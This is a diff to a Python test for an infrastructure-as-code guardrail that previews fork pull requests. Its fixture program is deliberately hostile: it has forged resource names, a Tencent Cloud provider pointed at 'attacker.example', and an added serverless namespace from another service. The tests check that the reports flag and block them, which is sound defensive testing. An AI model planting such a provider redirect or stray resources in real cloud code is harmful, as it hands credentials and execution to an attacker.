@@ -1,6 +1,7 @@
-"""A pull request's program with hostile names and a steered provider, previewed as a fork's pull
-request is: `make preview-localcloud` with this checkout's guardrails. The summary, SARIF and JUnit
-reports stay well-formed with every violation in them, and the steered provider is blocked."""
+"""A pull request's program with hostile names, a steered provider and a resource of another
+service, previewed as a fork's pull request is: `make preview-localcloud` with this checkout's
+guardrails. The summary, SARIF and JUnit reports stay well-formed with every violation in them, and
+the steered provider and the other service's resource are blocked."""
 
 from __future__ import annotations
 
@@ -32,6 +33,7 @@ import tencentcloud_iac_pulumi as _tencentcloud
 _tencentcloud.cam.UserPolicyAttachment({"hostile" + FORGED!r}, user_name={HOSTILE_USER + FORGED!r}, policy_id="524252")
 _steered = _tencentcloud.Provider("steered", domain="attacker.example")
 _tencentcloud.cam.Group("steered-group", name="steered", opts=pulumi.ResourceOptions(provider=_steered))
+_tencentcloud.scf.Namespace("runner", namespace="runner")  # another service: code that could run as any role
 """
 
 
@@ -61,6 +63,7 @@ def test_the_summary_keeps_its_one_heading_and_every_violation(
     assert table.count("<tr>") == len(rows)
     assert all(row.count("<td>") == 4 for row in table.split("<tr>")[1:])
     assert "im-provider-endpoint-fixed" in summary and "attacker.example" in summary
+    assert "im-resource-kinds-known" in summary and "tencentcloud:Scf/namespace:Namespace" in summary
 
 
 def test_sarif_and_junit_stay_well_formed_with_every_violation(
